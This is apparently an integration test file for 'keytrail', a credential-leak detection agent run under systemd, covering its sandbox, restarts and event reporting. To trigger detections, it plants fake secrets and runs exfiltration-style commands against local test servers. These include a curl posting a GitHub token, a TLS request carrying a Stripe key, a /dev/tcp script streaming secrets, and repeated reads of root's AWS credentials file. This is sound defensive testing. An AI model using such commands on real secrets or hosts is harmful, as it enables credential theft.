//! The agent as systemd starts it: in the sandbox of its unit it sees what it sees outside, and it comes and goes as
//! services do.

use crate::{
    agent::Setup,
    command::{act, sh},
    events::{Ask as _, Event, Signal, Tier, now_ns, of_kind, wall_ns},
    machine::{Scratch, patience, slowness, turn, wait_for},
    plant::{self, Planted},
    server::{Sink, TlsServer},
    service::{
        SOCKET, Service, UNIT, Watch, journal, property, remove_unit, socket, systemctl, write_unit,
    },
    stream,
};
use std::{collections::BTreeSet, fs, path::Path, time::Duration};

/// systemd reads the unit without complaint, and does not call it exposed.
pub fn the_unit_is_sound() {
    let _turn = turn();
    let service = Service::start();
    let done = act("systemd-analyze").args(["verify", UNIT]).run().ok();
    let said = done.stdout_text() + &done.stderr_text();
    // About other units of a small guest it may complain.
    assert!(!said.contains("keytrail"), "{said}");
    // 4.1 of 10 as measured; what it counts against the unit is what an agent of this kind is there for.
    act("systemd-analyze")
        .args(["security", "--offline=true", "--threshold=42", "--no-pager"])
        .arg(format!("/etc/systemd/system/{UNIT}"))
        .run()
        .ok();
    drop(service);
}

/// Reads a key, sends a token in clear and over TLS, and writes a key to places no rule names.
struct Acts {
    server: TlsServer,
    sink: Sink,
    scratch: Scratch,
}

impl Acts {
    fn prepare() -> Self {
        let scratch = Scratch::new();
        Self {
            server: TlsServer::start(&scratch.join("server")),
            sink: Sink::http(),
            scratch,
        }
    }

    fn are_seen(&self, watch: &Watch) {
        a_read(watch);
        self.a_send_in_clear(watch);
        self.a_send_over_tls(watch);
        // Places that the unit leaves to the agent for reading only, and one in memory.
        for dir in ["/var/lib", "/root", "/tmp", "/dev/shm"] {
            a_write(watch, Path::new(dir));
        }
    }

    fn a_send_in_clear(&self, watch: &Watch) {
        let token = plant::github();
        let done = sh("curl -s -d \"$GITHUB_TOKEN\" http://127.0.0.1:$1/; :")
            .arg(self.sink.port.to_string())
            .env(token.name, &token.value)
            .run()
            .ok();
        let sent = watch.expect("the send", |e| {
            e.is("credential_sent") && e.in_tree(done.pid)
        });
        let text = sent.brief();
        assert_eq!(sent.grade(), "observed", "{text}");
        assert_eq!(
            sent.peer(),
            ("127.0.0.1", u32::from(self.sink.port)),
            "{text}"
        );
        assert!(self.sink.has(&token.value));
    }

    fn a_send_over_tls(&self, watch: &Watch) {
        let token = plant::stripe();
        let done =
            sh("curl -sk -o /dev/null -H \"Authorization: Bearer $STRIPE_SECRET_KEY\" \"$1\"; :")
                .arg(self.server.url("/v1/charges"))
                .env(token.name, &token.value)
                .run()
                .ok();
        let sent = watch.expect("the send over TLS", |e| {
            e.is("credential_sent") && e.in_tree(done.pid)
        });
        let text = sent.brief();
        assert_eq!(sent.grade(), "observed", "{text}");
        assert_eq!(sent.channel(), "tls", "{text}");
        assert_eq!(sent.peer().1, u32::from(self.server.port), "{text}");
    }
}

/// root's own file, in a place that the rules watch.
pub(super) fn a_read(watch: &Watch) {
    let (key, file) = plant::aws_credentials(Path::new("/root"));
    // It is seen to appear.
    std::thread::sleep(patience(1));
    // Under emulation it may be read before the agent got to it: then that is a gap, and the next read is seen.
    let readers = sh("for n in 1 2 3 4 5 6; do cat \"$1\"; sleep 5; done")
        .arg(&file)
        .spawn();
    let read = watch.expect("the read", |e| {
        e.is("credential_read") && e.in_tree(readers.pid())
    });
    assert!(read.shows(&key), "{}", read.brief());
    assert_eq!(Path::new(read.path()), file, "{}", read.brief());
    assert!(read.executable().ends_with("/cat"), "{}", read.brief());
    fs::remove_file(file).unwrap();
}

/// A key in a file that no rule names: found by fanotify and a handle, which the unit has to let through.
fn a_write(watch: &Watch, dir: &Path) {
    let key = plant::aws();
    let file = dir.join(format!("notes-{}.txt", plant::text(plant::BASE62, 8)));
    let done = sh("cat > \"$1\" || exit 1; :")
        .arg(&file)
        .stdin(notes(&key))
        .run()
        .ok();
    let event = watch.expect("the new credential", |e| {
        e.is("credential_created") && Path::new(e.path()) == file
    });
    let text = event.brief();
    assert!(event.shows(&key), "{text}");
    assert!(event.in_tree(done.pid), "the writer is not named: {text}");
    fs::remove_file(file).unwrap();
}

fn notes(key: &Planted) -> String {
    format!(
        "the exporter's key, for now:\naws_access_key_id = {}\naws_secret_access_key = {}\n",
        key.identifier.as_deref().unwrap(),
        key.value
    )
}

/// Installed and started by the README's words: active, and it sees and tells.
pub fn installed_as_the_readme_says() {
    let _turn = turn();
    let acts = Acts::prepare();
    let service = Service::start();
    let watch = Watch::start(&service, &acts.scratch.join("watch.stderr"));
    acts.are_seen(&watch);

    let doctor = service.doctor();
    let said = doctor.stdout_text();
    assert!(said.contains(SOCKET), "it asked no agent: {said}");
    // Nobody but root and its group may ask.
    let mode = act("stat").args(["-c", "%a %U", SOCKET]).run().ok();
    assert_eq!(mode.stdout_text().trim(), "660 root");
    let state = act("stat")
        .args(["-c", "%a", "/var/lib/keytrail"])
        .run()
        .ok();
    assert_eq!(state.stdout_text().trim(), "700");
    assert_eq!(property(UNIT, "NRestarts"), "0");
}

/// What a status says of the agent's view: hooks, refusals and libraries without a hook.
fn view(socket: &Path) -> BTreeSet<String> {
    let status = stream::status(socket);
    let signals = status.signals.iter().flat_map(|s| {
        let refused = s
            .refused
            .iter()
            .map(|r| format!("{} without {}", Signal::word_of(s.signal), r.hook));
        std::iter::once(format!(
            "{} by {} ({}) test {} note {}",
            Signal::word_of(s.signal),
            s.hook,
            Tier::word_of(s.tier),
            s.self_test,
            s.note
        ))
        .chain(refused)
    });
    let libraries = status
        .libraries
        .iter()
        // Its own command line is a process of the machine as well.
        .filter(|l| !l.covered && !l.path.ends_with("/keytrail"))
        .map(|l| format!("{} not covered", l.path));
    signals.chain(libraries).collect()
}

/// Reasons of the gaps told so far, but for the time without an agent.
fn gaps(events: &[Event]) -> BTreeSet<String> {
    of_kind(events, "coverage_gap")
        .iter()
        // A file that is gone, a program's library, and how long a file takes, depend on what the machine does just then.
        .filter(|e| {
            ![
                "agent_down",
                "file_unreadable",
                "library_not_covered",
                "inspection_timeout",
            ]
            .contains(&e.reason())
        })
        .map(|e| {
            let gap = e.gap.as_ref().unwrap();
            format!("{} {}", e.reason(), Signal::word_of(gap.signal))
        })
        .collect()
}

/// The unit's sandbox hides nothing: hooks and gaps are those of an agent that root starts by hand.
pub fn as_much_as_outside() {
    let _turn = turn();
    let scratch = Scratch::new();
    let (outside, gaps_outside) = {
        let agent = Setup::new(&scratch).start();
        agent.wait_idle();
        let seen = (view(&agent.socket()), gaps(&agent.events()));
        agent.stop();
        seen
    };
    let service = Service::start();
    let watch = Watch::start(&service, &scratch.join("watch.stderr"));
    // As long as the other one had.
    std::thread::sleep(patience(1));
    let inside = view(&socket());
    assert_eq!(inside, outside, "inside the unit, and outside");
    let more: Vec<_> = gaps(&watch.events())
        .difference(&gaps_outside)
        .cloned()
        .collect();
    assert!(more.is_empty(), "gaps that are not there outside: {more:?}");
    assert!(!watch.events().is_empty());
}

/// restart, SIGKILL and stop: the gaps are reported, systemd brings it back, and it goes in time.
pub fn restarted_killed_stopped() {
    let _turn = turn();
    let scratch = Scratch::new();
    let service = Service::start();
    let first = service.pid();
    let down = |since: u64, what: &str| {
        let watch = Watch::start(&service, &scratch.join("watch.stderr"));
        let gap = watch.expect(what, |e| {
            let to = e.gap.as_ref().and_then(|g| g.to.as_ref());
            e.reason() == "agent_down" && to.is_some_and(|to| wall_ns(to) >= since)
        });
        gap.gap.unwrap().detail
    };

    let before = now_ns();
    systemctl(&["restart", "keytrail"]).ok();
    let second = service.pid();
    assert_ne!(first, second);
    let detail = down(before, "the gap of the restart");
    assert!(detail.contains("stopped"), "{detail}");

    let before = now_ns();
    systemctl(&["kill", "--signal=SIGKILL", "keytrail"]).ok();
    let third = service.restarted(second);
    assert_ne!(second, third);
    assert_eq!(property(UNIT, "NRestarts"), "1");
    let detail = down(before, "the gap of the kill");
    assert!(!detail.contains("stopped"), "{detail}");
    service.doctor();

    let took = service.stop();
    eprintln!("stopped in {took:?}");
    assert!(took < Duration::from_secs(2) * slowness(), "{took:?}");
    assert_eq!(property(UNIT, "Result"), "success");
    assert_eq!(property(UNIT, "ActiveState"), "inactive");
    assert!(!socket().exists(), "the socket is left behind");
    let watch = service.keytrail(&["watch"]).run();
    assert_eq!(watch.code(), 3, "{}", watch.stderr_text());
}

/// With a filter that kills where the unit's refuses, and with everything done that an agent does: it lives.
pub fn no_call_is_forbidden() {
    const KILL: &str = "keytrail.service.d/kill.conf";
    let _turn = turn();
    let acts = Acts::prepare();
    let service = Service::start();
    service.stop();
    write_unit(KILL, "[Service]\nSystemCallErrorNumber=kill\nRestart=no\n");
    // The filter is in force: a program that mounts is killed by it.
    let unit = fs::read_to_string(format!("/etc/systemd/system/{UNIT}")).unwrap();
    let filter: String = unit
        .lines()
        .filter(|l| l.starts_with("SystemCallFilter=") || l.starts_with("SystemCallArchitectures="))
        .map(|l| format!("{l}\n"))
        .collect();
    write_unit(
        "mounter.service",
        &format!("[Service]\nType=oneshot\nExecStart=/bin/mount -t tmpfs none /mnt\n{filter}"),
    );
    assert!(!systemctl(&["start", "mounter"]).status.success());
    assert_eq!(
        property("mounter.service", "ExecMainStatus"),
        libc::SIGSYS.to_string()
    );

    let service = {
        let started = Service::start();
        let watch = Watch::start(&started, &acts.scratch.join("watch.stderr"));
        acts.are_seen(&watch);
        a_file_system_comes_and_goes(&watch, &acts.scratch);
        started.doctor();
        started.stop();
        started
    };
    assert_eq!(property(UNIT, "Result"), "success");
    assert_eq!(property(UNIT, "ExecMainStatus"), "0");
    remove_unit(KILL);
    remove_unit("mounter.service");
    drop(service);

    // What it was not allowed by other means than the filter would stand in its log.
    let log = journal(UNIT).to_lowercase();
    for word in [
        "not permitted",
        "permission denied",
        "eperm",
        "eacces",
        "panicked",
    ] {
        let line = log.lines().find(|line| line.contains(word));
        assert!(line.is_none(), "{line:?}");
    }
}

/// A mount of later is seen into, and can be unmounted.
fn a_file_system_comes_and_goes(watch: &Watch, scratch: &Scratch) {
    let point = scratch.make("mnt");
    act("mount")
        .args(["-t", "tmpfs", "none"])
        .arg(&point)
        .run()
        .ok();
    std::thread::sleep(patience(1));
    a_write(watch, &point);
    act("umount").arg(&point).run().ok();
}

/// A service with a secret in `EnvironmentFile=` and one in `LoadCredential=` that sends both: its unit, user and
/// cgroup stand in the events.
pub fn a_service_is_named() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::silent();
    let service = Service::start();
    let watch = Watch::start(&service, &scratch.join("watch.stderr"));
    let (token, loaded) = (plant::github(), plant::stripe());
    let dir = scratch.make("etc");
    fs::write(dir.join("env"), format!("GITHUB_TOKEN={}\n", token.value)).unwrap();
    fs::write(dir.join("stripe"), &loaded.value).unwrap();
    let script = dir.join("upload");
    fs::write(
        &script,
        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/$1\nprintf 'token %s\\n' \"$GITHUB_TOKEN\" >&3\n\
         for n in 1 2 3 4 5 6; do sleep 5; read -r key <\"$CREDENTIALS_DIRECTORY/stripe\"\n\
         printf 'key %s\\n' \"$key\" >&3; done\nexec sleep 600\n",
    )
    .unwrap();
    write_unit(
        "uploader.service",
        &format!(
            "[Service]\nType=exec\nUser=www-data\nEnvironmentFile={dir}/env\nLoadCredential=stripe:{dir}/stripe\n\
             ExecStart=/bin/bash {script} {port}\n",
            dir = dir.display(),
            script = script.display(),
            port = sink.port
        ),
    );
    let done = systemctl(&["start", "uploader"]);
    assert!(done.status.success(), "{}", journal("uploader.service"));
    for planted in [&token, &loaded] {
        wait_for("the secret at the server", patience(10), || {
            sink.has(&planted.value).then_some(())
        });
    }
    let sent = |kind: &str| {
        watch.expect(&format!("the send of the {kind}"), |e| {
            e.is("credential_sent") && e.source_type() == kind && e.peer().1 == u32::from(sink.port)
        })
    };
    let by_env = sent("env");
    assert_eq!(by_env.source_type(), "env", "{}", by_env.brief());
    assert_eq!(by_env.env_name(), "GITHUB_TOKEN", "{}", by_env.brief());
    let by_file = sent("file");
    assert_eq!(by_file.source_type(), "file", "{}", by_file.brief());
    assert_eq!(
        by_file.path(),
        "/run/credentials/uploader.service/stripe",
        "{}",
        by_file.brief()
    );
    for event in [&by_env, &by_file] {
        assert_eq!(event.grade(), "observed", "{}", event.brief());
        is_the_uploader(event);
    }
    let exposed = watch.expect("the exposure", |e| {
        e.is("credential_exposed")
            && e.fingerprint() == by_env.fingerprint()
            && e.executable().ends_with("/bash")
    });
    is_the_uploader(&exposed);
    let read = watch.expect("the read", |e| {
        e.is("credential_read") && e.path() == by_file.path()
    });
    is_the_uploader(&read);
    systemctl(&["stop", "uploader"]).ok();
    remove_unit("uploader.service");
}

fn is_the_uploader(event: &Event) {
    let process = event.process.as_ref().unwrap();
    let text = format!("{} {process:?}", event.brief());
    assert_eq!(process.unit, "uploader.service", "{text}");
    assert_eq!(process.cgroup, "/system.slice/uploader.service", "{text}");
    // www-data
    assert_eq!(
        (process.uid, process.euid, process.gid),
        (33, 33, 33),
        "{text}"
    );
    assert_eq!(process.ppid, 1, "{text}");
    assert!(
        process.container.is_empty() && process.pod.is_empty(),
        "{text}"
    );
}
